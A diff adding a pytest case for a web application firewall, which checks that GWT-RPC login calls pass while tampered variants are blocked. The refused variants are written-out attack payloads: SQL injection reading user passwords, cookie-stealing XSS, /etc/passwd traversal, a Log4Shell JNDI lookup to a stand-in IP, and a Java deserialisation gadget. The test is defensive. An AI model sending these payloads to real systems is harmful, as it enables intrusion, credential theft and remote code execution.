@@ -293,6 +293,41 @@ def test_10275_reads_a_form_body_for_percent_signs_and_never_an_xml_document(
     assert got == status or (status == 400 and got == 403), (body[:60], got)
 
 
+
+
+# 10048, 10049 and 10051 (stop 36, corpus AG tuning part): the legacy stacks' own protocols.
+_GWT = ("7|0|7|https://www.example.gov.cn/zhjg/zhjg/|6F2B5C0E4A1D9B37C8E2F04A13D7B965|"
+        "cn.gov.sn.zhjg.client.service.LoginService|login|java.lang.String/2004016611|jgy315|1dYWMW0Y37|"
+        "1|2|3|4|2|5|5|6|7|")
+_GWT_HEADERS = {**attacks.BASE, "Content-Type": "text/x-gwt-rpc; charset=utf-8",
+                "X-GWT-Permutation": "3A9F1C2B7D4E6F8091A2B3C4D5E6F701",
+                "X-GWT-Module-Base": "https://www.example.gov.cn/zhjg/zhjg/"}
+GWT_REFUSED = [_GWT.replace("java.lang.String/2004016611", "java.lang.Runtime/2004016611"),
+               _GWT.replace("jgy315", "' union select password from sys_user--"),
+               _GWT.replace("jgy315", "<script>alert(document.cookie)</script>"),
+               _GWT.replace("jgy315", "../../../../etc/passwd"),
+               _GWT.replace("jgy315", "${jndi:ldap://203.0.113.5:1389/a}"),
+               _GWT.replace("java.lang.String/2004016611",
+                            "org.apache.commons.collections.functors.InvokerTransformer/1")]
+
+
+@pytest.mark.parametrize("profile", BLOCKING)
+def test_a_gwt_rpc_call_is_read_as_text_and_asp_nets_resource_handlers_pass(tier: Tier, profile: str) -> None:
+    """A GWT-RPC call (exact type and the permutation header) passes and is read whole: SQL, XSS, LFI, Log4Shell and
+    a deserialisation gadget class inside it are refused, and so is the type without the permutation header.
+    WebResource.axd and ScriptResource.axd pass; trace.axd and elmah.axd stay restricted (920440)."""
+    host = profile_host(profile)
+
+    def status(req: Req) -> int:
+        return send(tier.port, host, as_citizens([req])[0], source=GATEWAY).status
+    assert status(Req("POST", "/zhjg/zhjg/login", _GWT_HEADERS, _GWT)) == 200
+    assert [b[-60:] for b in GWT_REFUSED if status(Req("POST", "/zhjg/zhjg/login", _GWT_HEADERS, b)) != 403] == []
+    bare = {k: v for k, v in _GWT_HEADERS.items() if k != "X-GWT-Permutation"}
+    assert status(Req("POST", "/zhjg/zhjg/login", bare, _GWT)) == 403
+    for path, want in (("/WebResource.axd?d=pynGkmcFUV13He1Qd6_TZE1&t=638514245460000000", 200),
+                       ("/ScriptResource.axd?d=NJmAwtEo3Ipnlaxl6CMhvrPg&t=ffffffff9bb9b6f3", 200),
+                       ("/trace.axd", 403), ("/elmah.axd", 403), ("/x/WebResource.axd.bak", 403)):
+        assert status(Req("GET", path, dict(attacks.BASE))) == want, path
 # 10050 (stop 36): XXE in an XML body. SOAP, WebDAV and CAP endpoints parse XML; the back end's parser, not the WAF's,
 # would resolve the entity.
 _SOAP = ('<?xml version="1.0" encoding="UTF-8"?>\n{dtd}<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/'
